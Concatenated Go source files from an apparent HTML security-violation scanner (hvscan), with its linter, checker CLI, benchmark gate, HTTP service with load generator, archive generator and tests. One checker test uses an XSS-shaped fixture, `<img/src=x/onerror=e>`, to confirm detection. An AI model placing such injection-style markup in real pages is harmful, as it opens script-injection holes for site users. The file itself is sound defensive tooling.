		fmt.Fprintf(os.Stderr, "hvlint: %v\n", err)
		os.Exit(2)
	}
	for _, d := range diags {
		fmt.Printf("%s: %s: %s\n", d.Pos, d.Analyzer, d.Message)
	}
	if len(diags) > 0 {
		fmt.Fprintf(os.Stderr, "hvlint: %d finding(s)\n", len(diags))
		os.Exit(1)
	}
}
