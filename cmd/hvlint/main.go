// Command hvlint runs the repo's custom analyzers (internal/lint) over
// the given packages and reports every violation of the project's
// invariants: spec-error coverage, error classification, cancellable
// sleeping, metric naming, rule purity, zero-copy view lifetimes,
// hot-path allocation freedom, and goroutine hygiene.
//
// Usage:
//
//	hvlint [-list] [-json] [-summary file] [packages]
//
// Packages default to ./... relative to the current directory. The
// exit code is 0 when the tree is clean, 1 when diagnostics were
// reported, and 2 on a load or internal error. With -json, findings
// are emitted as a single deterministically ordered JSON array (sorted
// by file, line, analyzer, message) instead of the line-oriented text
// form. With -summary, a markdown table of the findings is appended to
// the given file — pass "$GITHUB_STEP_SUMMARY" in CI. Individual
// findings can be suppressed with a justified directive:
//
//	//lint:ignore <analyzer|all> <reason>
//
// either on the offending line or on its own line immediately above.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"sort"
	"strings"

	"github.com/hvscan/hvscan/internal/lint"
	"github.com/hvscan/hvscan/internal/lint/analysis"
)

// finding is the JSON wire form of one diagnostic. The field order and
// names are part of the tool's output contract; downstream consumers
// (CI annotations, dashboards) key on them.
type finding struct {
	File     string `json:"file"`
	Line     int    `json:"line"`
	Column   int    `json:"column"`
	Analyzer string `json:"analyzer"`
	Message  string `json:"message"`
}

func main() {
	list := flag.Bool("list", false, "list the registered analyzers and exit")
	jsonOut := flag.Bool("json", false, "emit findings as a sorted JSON array on stdout")
	summary := flag.String("summary", "", "append a markdown findings table to this file (e.g. $GITHUB_STEP_SUMMARY)")
	flag.Usage = func() {
		fmt.Fprintf(flag.CommandLine.Output(), "usage: hvlint [-list] [-json] [-summary file] [packages]\n\n")
		fmt.Fprintf(flag.CommandLine.Output(), "Analyzers:\n")
		for _, a := range lint.Analyzers() {
			fmt.Fprintf(flag.CommandLine.Output(), "  %-12s %s\n", a.Name, a.Doc)
		}
		flag.PrintDefaults()
	}
	flag.Parse()

	analyzers := lint.Analyzers()
	if *list {
		for _, a := range analyzers {
			fmt.Printf("%s: %s\n", a.Name, a.Doc)
		}
		return
	}

	pkgs, err := analysis.Load(".", flag.Args()...)
	if err != nil {
		fmt.Fprintf(os.Stderr, "hvlint: %v\n", err)
		os.Exit(2)
	}
	diags, err := analysis.Run(pkgs, analyzers)
	if err != nil {
		fmt.Fprintf(os.Stderr, "hvlint: %v\n", err)
		os.Exit(2)
	}

	findings := make([]finding, 0, len(diags))
	for _, d := range diags {
		findings = append(findings, finding{
			File:     d.Pos.Filename,
			Line:     d.Pos.Line,
			Column:   d.Pos.Column,
			Analyzer: d.Analyzer,
			Message:  d.Message,
		})
	}
	sort.Slice(findings, func(i, j int) bool {
		a, b := findings[i], findings[j]
		if a.File != b.File {
			return a.File < b.File
		}
		if a.Line != b.Line {
			return a.Line < b.Line
		}
		if a.Analyzer != b.Analyzer {
			return a.Analyzer < b.Analyzer
		}
		return a.Message < b.Message
	})

	if *jsonOut {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(findings); err != nil {
			fmt.Fprintf(os.Stderr, "hvlint: %v\n", err)
			os.Exit(2)
		}
	} else {
		for _, f := range findings {
			fmt.Printf("%s:%d:%d: %s: %s\n", f.File, f.Line, f.Column, f.Analyzer, f.Message)
		}
	}

	if *summary != "" {
		if err := appendSummary(*summary, len(analyzers), findings); err != nil {
			fmt.Fprintf(os.Stderr, "hvlint: %v\n", err)
			os.Exit(2)
		}
	}

	if len(findings) > 0 {
		fmt.Fprintf(os.Stderr, "hvlint: %d finding(s)\n", len(findings))
		os.Exit(1)
	}
}

// appendSummary writes a markdown section for the run — a clean-bill
// line when the tree passed, a findings table otherwise — so the CI
// lint job's step summary shows results without opening the log.
func appendSummary(path string, nAnalyzers int, findings []finding) error {
	var b strings.Builder
	b.WriteString("## hvlint\n\n")
	if len(findings) == 0 {
		fmt.Fprintf(&b, "Clean: %d analyzers, 0 findings.\n\n", nAnalyzers)
	} else {
		fmt.Fprintf(&b, "%d finding(s) across %d analyzers.\n\n", len(findings), nAnalyzers)
		b.WriteString("| Location | Analyzer | Message |\n|---|---|---|\n")
		for _, f := range findings {
			msg := strings.ReplaceAll(f.Message, "|", "\\|")
			fmt.Fprintf(&b, "| %s:%d | %s | %s |\n", f.File, f.Line, f.Analyzer, msg)
		}
		b.WriteString("\n")
	}
	fh, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		return err
	}
	defer fh.Close()
	_, err = fh.WriteString(b.String())
	return err
}
