package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func runCheck(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	code = run(args, strings.NewReader(stdin), &out, &errb)
	return code, out.String(), errb.String()
}

func TestCheckStdin(t *testing.T) {
	code, out, _ := runCheck(t, `<div id=a id=a>x</div>`)
	if code != 1 {
		t.Fatalf("exit = %d", code)
	}
	if !strings.Contains(out, "DM3") {
		t.Fatalf("out = %q", out)
	}

	code, out, _ = runCheck(t, `<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>`)
	if code != 0 || out != "" {
		t.Fatalf("clean doc: code=%d out=%q", code, out)
	}
}

func TestCheckFiles(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.html")
	good := filepath.Join(dir, "good.html")
	os.WriteFile(bad, []byte(`<img/src=x/onerror=e>`), 0o644)
	os.WriteFile(good, []byte(`<!DOCTYPE html><html><head><title>t</title></head><body>ok</body></html>`), 0o644)

	code, out, _ := runCheck(t, "", bad, good)
	if code != 1 {
		t.Fatalf("exit = %d", code)
	}
	if !strings.Contains(out, "bad.html") || !strings.Contains(out, "FB1") {
		t.Fatalf("out = %q", out)
	}
	if strings.Contains(out, "good.html") {
		t.Fatalf("good file flagged: %q", out)
	}

	code, _, errb := runCheck(t, "", filepath.Join(dir, "missing.html"))
	if code != 2 || !strings.Contains(errb, "missing.html") {
		t.Fatalf("missing file: code=%d err=%q", code, errb)
	}
}

func TestCheckJSONOutput(t *testing.T) {
	_, out, _ := runCheck(t, `<a href=x"t">l</a>`, "-json")
	line := strings.SplitN(strings.TrimSpace(out), "\n", 2)[0]
	var rec map[string]any
	if err := json.Unmarshal([]byte(line), &rec); err != nil {
		t.Fatalf("bad json %q: %v", line, err)
	}
	if rec["file"] != "<stdin>" || rec["rule"] == "" {
		t.Fatalf("rec = %v", rec)
	}
}

func TestCheckRuleFilter(t *testing.T) {
	// Only FB2 requested; the DM3 on the same input must not appear.
	code, out, _ := runCheck(t, `<img src="a"alt="b" id=x id=y>`, "-rules", "FB2")
	if code != 1 {
		t.Fatalf("exit = %d", code)
	}
	if strings.Contains(out, "DM3") {
		t.Fatalf("filter leaked: %q", out)
	}
}

func TestCheckStreamMode(t *testing.T) {
	code, out, _ := runCheck(t, `<img/src=x>`, "-stream")
	if code != 1 || !strings.Contains(out, "FB1") {
		t.Fatalf("stream: code=%d out=%q", code, out)
	}
}

func TestCheckList(t *testing.T) {
	code, out, _ := runCheck(t, "", "-list")
	if code != 0 {
		t.Fatalf("exit = %d", code)
	}
	for _, id := range []string{"DE1", "DM2_3", "HF5_3", "FB2"} {
		if !strings.Contains(out, id) {
			t.Fatalf("list missing %s", id)
		}
	}
}

func TestCheckQuiet(t *testing.T) {
	code, out, _ := runCheck(t, `<div a=1 a=2>`, "-q")
	if code != 1 || out != "" {
		t.Fatalf("quiet: code=%d out=%q", code, out)
	}
}

func TestCheckNonUTF8Skipped(t *testing.T) {
	code, _, errb := runCheck(t, "caf\xe9")
	if code != 0 || !strings.Contains(errb, "not UTF-8") {
		t.Fatalf("non-utf8: code=%d err=%q", code, errb)
	}
}

func TestCheckShowSource(t *testing.T) {
	code, out, _ := runCheck(t, "<p>fine</p>\n<div id=a id=b>dup</div>\n", "-show-source")
	if code != 1 {
		t.Fatalf("exit = %d", code)
	}
	if !strings.Contains(out, "<div id=a id=b>dup</div>") {
		t.Fatalf("source line missing: %q", out)
	}
	if !strings.Contains(out, "^") {
		t.Fatalf("caret missing: %q", out)
	}
}
