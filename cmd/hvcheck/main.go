// Command hvcheck validates HTML documents against the catalogue of
// security-relevant specification violations (paper Table 1).
//
// Usage:
//
//	hvcheck [flags] [file ...]
//
// With no files it reads standard input. The exit status is 0 when no
// violations were found, 1 when at least one document violates, and 2 on
// operational errors.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdin, os.Stdout, os.Stderr))
}

// printSourceContext shows the finding's source line with a caret under
// the reported column (columns are rune-based, matching the parser).
func printSourceContext(w io.Writer, data []byte, line, col int) {
	ls := strings.Split(string(data), "\n")
	if line < 1 || line > len(ls) {
		return
	}
	src := strings.ReplaceAll(ls[line-1], "\t", " ")
	const max = 200
	if len(src) > max {
		src = src[:max] + "…"
	}
	fmt.Fprintf(w, "    %s\n", src)
	if col >= 1 && col <= len(src)+1 {
		runes := []rune(src)
		pad := col - 1
		if pad > len(runes) {
			pad = len(runes)
		}
		fmt.Fprintf(w, "    %s^\n", strings.Repeat(" ", pad))
	}
}

func run(args []string, stdin io.Reader, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("hvcheck", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		jsonOut = fs.Bool("json", false, "emit findings as JSON lines")
		rules   = fs.String("rules", "", "comma-separated rule IDs to check (default: all)")
		stream  = fs.Bool("stream", false, "tokenizer-only mode: skip tree construction (checks FB1/FB2/DM3/DE3_* only)")
		quiet   = fs.Bool("q", false, "suppress per-finding output; status code only")
		list    = fs.Bool("list", false, "list the catalogue and exit")
		verbose = fs.Bool("v", false, "with -list: include the attack description per rule")
		source  = fs.Bool("show-source", false, "print the offending source line under each finding")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *list {
		for _, r := range core.Rules() {
			fmt.Fprintf(stdout, "%-6s %-2s %-10s fixable=%-5v %s\n",
				r.ID, r.Group, r.Category, r.AutoFixable, r.Name)
			if *verbose {
				fmt.Fprintf(stdout, "       %s\n", r.Doc)
			}
		}
		return 0
	}
	var checker *core.Checker
	switch {
	case *rules != "":
		checker = core.NewChecker(strings.Split(*rules, ",")...)
	case *stream:
		checker = core.NewStreamingChecker()
	default:
		checker = core.NewChecker()
	}

	inputs := fs.Args()
	exit := 0
	check := func(name string, data []byte) {
		var rep *core.Report
		var err error
		if *stream {
			rep, err = checker.CheckStream(data)
		} else {
			rep, err = checker.Check(data)
		}
		if err == htmlparse.ErrNotUTF8 {
			fmt.Fprintf(stderr, "hvcheck: %s: skipped (not UTF-8)\n", name)
			return
		}
		if err != nil {
			fmt.Fprintf(stderr, "hvcheck: %s: %v\n", name, err)
			exit = 2
			return
		}
		if rep.HasViolation() && exit == 0 {
			exit = 1
		}
		if *quiet {
			return
		}
		for _, f := range rep.Findings {
			if *jsonOut {
				line, _ := json.Marshal(map[string]any{
					"file": name, "rule": f.RuleID,
					"line": f.Pos.Line, "col": f.Pos.Col,
					"evidence": f.Evidence,
				})
				fmt.Fprintln(stdout, string(line))
			} else {
				fmt.Fprintf(stdout, "%s:%d:%d: %s", name, f.Pos.Line, f.Pos.Col, f.RuleID)
				if f.Evidence != "" {
					fmt.Fprintf(stdout, " (%s)", f.Evidence)
				}
				fmt.Fprintln(stdout)
				if *source {
					printSourceContext(stdout, data, f.Pos.Line, f.Pos.Col)
				}
			}
		}
	}

	if len(inputs) == 0 {
		data, err := io.ReadAll(stdin)
		if err != nil {
			fmt.Fprintf(stderr, "hvcheck: stdin: %v\n", err)
			return 2
		}
		check("<stdin>", data)
		return exit
	}
	for _, path := range inputs {
		data, err := os.ReadFile(path)
		if err != nil {
			fmt.Fprintf(stderr, "hvcheck: %v\n", err)
			exit = 2
			continue
		}
		check(path, data)
	}
	return exit
}
