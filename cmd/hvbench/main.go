// Command hvbench records and gates the repo's benchmark trajectory:
// the parser hot path, the streaming checker, the archive cache, and
// the serving layer's end-to-end request latency.
//
// It runs the selected benchmarks through `go test -json -bench`, folds
// the event stream into the stable schema of internal/perf, and either
// records the run as a BENCH_<date>.json file or gates it against the
// checked-in BENCH_baseline.json (or both). The gate fails — non-zero
// exit — when any baseline benchmark regresses beyond the tolerance on
// ns/op or disappears from the run.
//
// Typical uses:
//
//	hvbench                         # run + gate against BENCH_baseline.json
//	hvbench -record                 # run + write BENCH_<date>.json, no gate
//	hvbench -record -out BENCH_baseline.json   # refresh the baseline
//	hvbench -summary "$GITHUB_STEP_SUMMARY"    # gate + markdown delta table
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"time"

	"github.com/hvscan/hvscan/internal/perf"
)

func main() {
	var (
		record    = flag.Bool("record", false, "write the run to -out and skip the gate (combine with -gate to do both)")
		gate      = flag.Bool("gate", false, "compare the run against -baseline and exit non-zero on regression (default when -record is not set)")
		out       = flag.String("out", "", "output path for -record (default BENCH_<yyyymmdd>.json)")
		baseline  = flag.String("baseline", "BENCH_baseline.json", "baseline run to gate against")
		tolerance = flag.Float64("tolerance", 0.10, "relative ns/op regression allowed before the gate fails")
		benchRe   = flag.String("bench", "^(BenchmarkTokenize|BenchmarkParse|BenchmarkCheckStream|BenchmarkCheckFull|BenchmarkArchiveReadRange|BenchmarkServeCheck|BenchmarkServeCheckStream)$", "benchmark selection regexp passed to go test")
		pkg       = flag.String("pkg", "./internal/htmlparse,./internal/core,./internal/commoncrawl,./internal/serve", "comma-separated packages whose benchmarks to run")
		count     = flag.Int("count", 5, "go test -count; the fastest of N runs is kept per benchmark")
		summary   = flag.String("summary", "", "append the markdown delta table to this file (e.g. $GITHUB_STEP_SUMMARY)")
		input     = flag.String("input", "", "parse an existing go test -json stream from this file instead of running benchmarks ('-' for stdin)")
	)
	flag.Parse()
	if !*record {
		*gate = true
	}

	run, err := collect(*input, *benchRe, *pkg, *count)
	if err != nil {
		fatal(err)
	}
	stamp(run)

	if *record {
		path := *out
		if path == "" {
			path = "BENCH_" + time.Now().UTC().Format("20060102") + ".json"
		}
		if err := writeRun(path, run); err != nil {
			fatal(err)
		}
		fmt.Printf("recorded %d benchmarks to %s (go %s, sha %s)\n",
			len(run.Benchmarks), path, run.GoVersion, short(run.GitSHA))
	}
	if !*gate {
		return
	}

	base, err := readRun(*baseline)
	if err != nil {
		fatal(fmt.Errorf("loading baseline: %w (record one with hvbench -record -out %s)", err, *baseline))
	}
	diff := perf.Compare(base, run, *tolerance)
	table := diff.Markdown()
	fmt.Print(table)
	if *summary != "" {
		header := fmt.Sprintf("## Benchmark gate (baseline %s, tolerance %.0f%%)\n\n",
			short(base.GitSHA), *tolerance*100)
		if err := appendFile(*summary, header+table+"\n"); err != nil {
			fatal(err)
		}
	}
	if fails := diff.Failures(); len(fails) > 0 {
		for _, f := range fails {
			switch f.Verdict {
			case perf.Missing:
				fmt.Fprintf(os.Stderr, "FAIL: %s present in baseline but not in this run\n", f.Name)
			default:
				fmt.Fprintf(os.Stderr, "FAIL: %s regressed %.1f%% (%.0f -> %.0f ns/op, tolerance %.0f%%)\n",
					f.Name, (f.Ratio-1)*100, f.Old.NsPerOp, f.New.NsPerOp, *tolerance*100)
			}
		}
		os.Exit(1)
	}
	fmt.Printf("gate ok: %d benchmarks within %.0f%% of baseline %s\n",
		len(diff.Deltas), *tolerance*100, short(base.GitSHA))
}

// collect produces the perf.Run, either by running the benchmarks or by
// parsing a previously captured event stream.
func collect(input, benchRe, pkg string, count int) (*perf.Run, error) {
	if input != "" {
		f := os.Stdin
		if input != "-" {
			var err error
			if f, err = os.Open(input); err != nil {
				return nil, err
			}
			defer f.Close()
		}
		return perf.ParseTestJSON(f)
	}
	args := []string{"test", "-json", "-run", "^$",
		"-bench", benchRe, "-benchmem", fmt.Sprintf("-count=%d", count)}
	for _, p := range strings.Split(pkg, ",") {
		if p = strings.TrimSpace(p); p != "" {
			args = append(args, p)
		}
	}
	cmd := exec.Command("go", args...)
	var stdout bytes.Buffer
	cmd.Stdout = &stdout
	cmd.Stderr = os.Stderr
	if err := cmd.Run(); err != nil {
		return nil, fmt.Errorf("go %s: %w", strings.Join(args, " "), err)
	}
	return perf.ParseTestJSON(&stdout)
}

// stamp records the run's provenance inside the payload so the file is
// self-describing regardless of its name or location.
func stamp(run *perf.Run) {
	run.Date = time.Now().UTC().Format(time.RFC3339)
	run.GoVersion = runtime.Version()
	if sha, err := exec.Command("git", "rev-parse", "HEAD").Output(); err == nil {
		run.GitSHA = strings.TrimSpace(string(sha))
	}
}

func writeRun(path string, run *perf.Run) error {
	b, err := json.MarshalIndent(run, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}

func readRun(path string) (*perf.Run, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var run perf.Run
	if err := json.Unmarshal(b, &run); err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	if len(run.Benchmarks) == 0 {
		return nil, fmt.Errorf("%s: no benchmarks in file", path)
	}
	return &run, nil
}

func appendFile(path, s string) error {
	f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.WriteString(s)
	return err
}

func short(sha string) string {
	if len(sha) > 12 {
		return sha[:12]
	}
	if sha == "" {
		return "(unknown)"
	}
	return sha
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "hvbench:", err)
	os.Exit(1)
}
