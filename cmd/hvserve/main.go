// Command hvserve is the online HTML violation checker: POST a
// document to /v1/check and get its violations, rule hits, and
// mitigation signals back as JSON, or POST it to /v1/fix to run the
// validated repair engine (internal/autofix) and get back the verified
// repaired document — or the original bytes with an explanation when
// the repair cannot be verified. The service is hardened for
// overload (see internal/serve): per-tenant rate limits, a bounded
// worker pool with explicit load shedding, request size/depth/time
// caps, slowloris defense, and a graceful SIGTERM drain.
//
// With -archive-dir or -archive-synthetic it also exposes
// GET /v1/archive-check?domain=...&crawl=...&limit=..., checking
// captures straight out of a Common Crawl-shaped archive behind a
// circuit breaker.
//
// With -loadgen it turns into the load generator instead: it offers
// corpus-page traffic to -url at one or more rates and prints a
// latency/shed summary per rate — the source of EXPERIMENTS.md's
// latency-vs-QPS curve.
//
// Usage:
//
//	hvserve [-addr :8811] [-stream] [-rules FB1,DE3_1]
//	        [-max-body-mb 2] [-max-depth 512] [-timeout 2s]
//	        [-workers 0] [-queue 0] [-tenant-rate 100]
//	        [-archive-dir DIR | -archive-synthetic] [-drain 30s]
//	hvserve -loadgen -url http://127.0.0.1:8811/v1/check \
//	        [-qps 0 | -sweep 50,100,200,400] [-c 8] [-duration 5s]
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/hvscan/hvscan/internal/autofix"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/resilience"
	"github.com/hvscan/hvscan/internal/serve"
)

func main() {
	var (
		addr       = flag.String("addr", ":8811", "listen address")
		stream     = flag.Bool("stream", false, "streaming rules only (constant-memory; no tree construction)")
		rules      = flag.String("rules", "", "comma-separated rule IDs (empty = full catalogue)")
		maxBodyMB  = flag.Int64("max-body-mb", 2, "request body cap in MiB")
		maxDepth   = flag.Int("max-depth", 512, "open-element depth cap for tree parses")
		timeout    = flag.Duration("timeout", 2*time.Second, "per-request check deadline")
		progress   = flag.Duration("body-progress", 5*time.Second, "per-chunk body read progress deadline (slowloris cutoff)")
		workers    = flag.Int("workers", 0, "worker pool size (0 = GOMAXPROCS)")
		queue      = flag.Int("queue", 0, "admission queue depth (0 = 2x workers)")
		queueWait  = flag.Duration("queue-wait", 250*time.Millisecond, "max queued wait before shedding")
		tenantRate = flag.Float64("tenant-rate", 100, "per-tenant requests/second (negative = unlimited)")
		drain      = flag.Duration("drain", 30*time.Second, "graceful drain budget on SIGTERM")

		archiveDir = flag.String("archive-dir", "", "enable /v1/archive-check over an hvgen archive directory")
		archiveSyn = flag.Bool("archive-synthetic", false, "enable /v1/archive-check over the synthetic archive")
		domains    = flag.Int("domains", 2400, "synthetic archive: domain universe size")
		maxPages   = flag.Int("pages", 20, "synthetic archive: max pages per domain")
		seed       = flag.Int64("seed", 22, "synthetic archive / loadgen corpus seed")

		loadgen  = flag.Bool("loadgen", false, "run as load generator instead of server")
		url      = flag.String("url", "http://127.0.0.1:8811/v1/check", "loadgen: target endpoint")
		qps      = flag.Float64("qps", 0, "loadgen: offered rate (0 = closed loop)")
		sweep    = flag.String("sweep", "", "loadgen: comma-separated QPS list; runs one pass per rate")
		conc     = flag.Int("c", 8, "loadgen: concurrent workers")
		duration = flag.Duration("duration", 5*time.Second, "loadgen: run length per rate")
		pages    = flag.Int("loadgen-pages", 64, "loadgen: distinct corpus bodies")
	)
	flag.Parse()

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	if *loadgen {
		if err := runLoadgen(ctx, *url, *sweep, *qps, *conc, *duration, *seed, *pages); err != nil {
			fmt.Fprintln(os.Stderr, "hvserve:", err)
			os.Exit(1)
		}
		return
	}

	var checker *core.Checker
	switch {
	case *stream:
		checker = core.NewStreamingChecker()
	case *rules != "":
		checker = core.NewChecker(strings.Split(*rules, ",")...)
	}
	cfg := serve.Config{
		Checker:             checker,
		MaxBodyBytes:        *maxBodyMB << 20,
		MaxTreeDepth:        *maxDepth,
		RequestTimeout:      *timeout,
		BodyProgressTimeout: *progress,
		Admission: resilience.AdmissionConfig{
			Workers:   *workers,
			Queue:     *queue,
			QueueWait: *queueWait,
		},
		TenantRate: *tenantRate,
	}
	if *archiveDir != "" {
		disk, err := commoncrawl.OpenDisk(*archiveDir)
		if err != nil {
			fmt.Fprintln(os.Stderr, "hvserve:", err)
			os.Exit(1)
		}
		defer disk.Close()
		cfg.Archive = disk
	} else if *archiveSyn {
		g := corpus.New(corpus.Config{Seed: *seed, Domains: *domains, MaxPages: *maxPages})
		cfg.Archive = commoncrawl.NewSynthetic(g)
	}

	srv := serve.New(cfg)
	// The repair engine's per-rule applied/verified/rejected counters
	// belong on the same /metrics page as the serve_fix_* series.
	autofix.Instrument(srv.Registry())
	if checker == nil {
		log.Printf("checking with the full catalogue (tree mode)")
	} else if checker.NeedsTree() {
		log.Printf("checking %d rules (tree mode)", len(checker.Rules()))
	} else {
		log.Printf("checking %d streaming rules (constant-memory mode)", len(checker.Rules()))
	}
	log.Printf("listening on %s (drain budget %s)", *addr, *drain)
	err := serve.Run(ctx, serve.NewHTTPServer(*addr, srv), *drain, srv.BeginDrain)
	if !serve.IsExpectedClose(err) {
		log.Fatal(err)
	}
	log.Printf("drained cleanly")
}

// runLoadgen offers traffic at each rate in the sweep (or the single
// -qps) and prints one summary line per rate, TSV so the numbers paste
// straight into EXPERIMENTS.md.
func runLoadgen(ctx context.Context, url, sweep string, qps float64, conc int, duration time.Duration, seed int64, pages int) error {
	rates := []float64{qps}
	if sweep != "" {
		rates = rates[:0]
		for _, s := range strings.Split(sweep, ",") {
			r, err := strconv.ParseFloat(strings.TrimSpace(s), 64)
			if err != nil {
				return fmt.Errorf("bad -sweep entry %q: %w", s, err)
			}
			rates = append(rates, r)
		}
	}
	fmt.Println("qps_offered\tqps_achieved\trequests\tok\tshed\terrors\tp50_ms\tp95_ms\tp99_ms\tmax_ms")
	for _, r := range rates {
		res, err := serve.Load(ctx, serve.LoadConfig{
			URL:         url,
			QPS:         r,
			Concurrency: conc,
			Duration:    duration,
			Seed:        seed,
			Pages:       pages,
		})
		if err != nil {
			return err
		}
		fmt.Printf("%.0f\t%.1f\t%d\t%d\t%d\t%d\t%.2f\t%.2f\t%.2f\t%.2f\n",
			r, res.AchievedQPS, res.Requests, res.Status[200], res.Shed, res.Errors,
			ms(res.P50), ms(res.P95), ms(res.P99), ms(res.Max))
		if ctx.Err() != nil {
			break
		}
	}
	return nil
}

func ms(d time.Duration) float64 { return float64(d) / float64(time.Millisecond) }
