package main

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/crawler"
	"github.com/hvscan/hvscan/internal/store"
)

// TestGenerateAndCrawlDisk is the hvgen -> ccserve(DiskArchive) -> crawl
// end-to-end check: the on-disk archive must yield exactly the same
// measurements as the in-memory synthetic archive.
func TestGenerateAndCrawlDisk(t *testing.T) {
	dir := t.TempDir()
	g := corpus.New(corpus.Config{Seed: 9, Domains: 30, MaxPages: 3})
	if err := generate(g, dir, 2, 1<<20); err != nil {
		t.Fatalf("generate: %v", err)
	}

	// Layout checks.
	for _, snap := range corpus.Snapshots {
		if _, err := os.Stat(filepath.Join(dir, snap.ID, "index.cdxj")); err != nil {
			t.Fatalf("missing index for %s: %v", snap.ID, err)
		}
		if _, err := os.Stat(filepath.Join(dir, snap.ID, "segment-0001.warc.gz")); err != nil {
			t.Fatalf("missing segment for %s: %v", snap.ID, err)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "tranco-01.csv")); err != nil {
		t.Fatalf("missing tranco list: %v", err)
	}

	disk, err := commoncrawl.OpenDisk(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer disk.Close()

	crawl := disk.Crawls()[0]
	domains := g.Universe()

	diskStore := store.New()
	if _, err := crawler.New(disk, core.NewChecker(), diskStore,
		crawler.Config{PagesPerDomain: 3}).RunSnapshot(context.Background(), crawl, domains); err != nil {
		t.Fatal(err)
	}

	synth := commoncrawl.NewSynthetic(g)
	synthStore := store.New()
	if _, err := crawler.New(synth, core.NewChecker(), synthStore,
		crawler.Config{PagesPerDomain: 3}).RunSnapshot(context.Background(), crawl, domains); err != nil {
		t.Fatal(err)
	}

	if diskStore.Len() != synthStore.Len() {
		t.Fatalf("stores differ in size: %d vs %d", diskStore.Len(), synthStore.Len())
	}
	for _, d := range synthStore.Domains(crawl) {
		got := diskStore.Get(crawl, d.Domain)
		if got == nil {
			t.Fatalf("%s missing from disk crawl", d.Domain)
		}
		if got.PagesAnalyzed != d.PagesAnalyzed || len(got.Violations) != len(d.Violations) {
			t.Fatalf("%s differs: disk %+v vs synth %+v", d.Domain, got, d)
		}
		for rule, n := range d.Violations {
			if got.Violations[rule] != n {
				t.Fatalf("%s %s: %d vs %d", d.Domain, rule, got.Violations[rule], n)
			}
		}
	}
}

// TestSegmentRotation: a tiny segment size must produce multiple segments
// that all resolve through the index.
func TestSegmentRotation(t *testing.T) {
	dir := t.TempDir()
	g := corpus.New(corpus.Config{Seed: 9, Domains: 12, MaxPages: 3})
	if err := generateSnapshot(g, dir, corpus.Snapshots[0], g.Universe(), 8<<10); err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(filepath.Join(dir, corpus.Snapshots[0].ID))
	if err != nil {
		t.Fatal(err)
	}
	segments := 0
	for _, e := range entries {
		if filepath.Ext(e.Name()) == ".gz" {
			segments++
		}
	}
	if segments < 2 {
		t.Fatalf("segment rotation did not occur: %d segments", segments)
	}
	disk, err := commoncrawl.OpenDisk(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer disk.Close()
	for _, d := range g.Universe() {
		recs, err := disk.Query(context.Background(), corpus.Snapshots[0].ID, d, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			if _, err := commoncrawl.FetchCapture(context.Background(), disk, rec); err != nil {
				t.Fatalf("fetch across segments: %v", err)
			}
		}
	}
}
