// Command hvgen materializes the synthetic longitudinal archive to disk as
// per-crawl WARC files with CDXJ indexes — the layout cmd/ccserve and the
// DiskArchive reader consume. It also writes the Tranco-style daily lists
// the dataset derivation uses.
//
// Usage:
//
//	hvgen -out ./archive [-domains 2400] [-pages 20] [-seed 22] [-lists 5]
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/warc"
)

func main() {
	var (
		out     = flag.String("out", "archive", "output directory")
		domains = flag.Int("domains", 2400, "domain universe size (paper scale: 24915)")
		pages   = flag.Int("pages", 20, "max pages per domain per snapshot (paper: 100)")
		seed    = flag.Int64("seed", 22, "generator seed")
		lists   = flag.Int("lists", 5, "number of Tranco-style lists to write")
		segSize = flag.Int64("segment-bytes", 64<<20, "rotate WARC segments at this size")
	)
	flag.Parse()

	g := corpus.New(corpus.Config{Seed: *seed, Domains: *domains, MaxPages: *pages})
	if err := generate(g, *out, *lists, *segSize); err != nil {
		fmt.Fprintln(os.Stderr, "hvgen:", err)
		os.Exit(1)
	}
}

func generate(g *corpus.Generator, out string, lists int, segSize int64) error {
	if err := os.MkdirAll(out, 0o755); err != nil {
		return err
	}
	for li, l := range g.TrancoLists(lists) {
		path := filepath.Join(out, fmt.Sprintf("tranco-%02d.csv", li+1))
		f, err := os.Create(path)
		if err != nil {
			return err
		}
		if _, err := l.WriteTo(f); err != nil {
